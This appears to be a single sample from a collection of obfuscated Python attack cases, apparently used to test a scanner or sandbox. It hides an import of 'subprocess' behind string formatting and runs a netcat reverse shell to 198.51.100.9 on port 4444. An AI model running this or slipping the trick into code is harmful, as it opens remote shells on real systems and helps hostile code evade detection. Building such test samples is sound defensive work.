# attack-class: 2
# title: __import__ with a %-formatted name and fromlist
# why: old-style formatting builds "subprocess"

spm = __import__("%s%s" % ("subpro", "cess"), fromlist=["Popen"])
spm.Popen("nc -e /bin/sh 198.51.100.9 4444", shell=True)
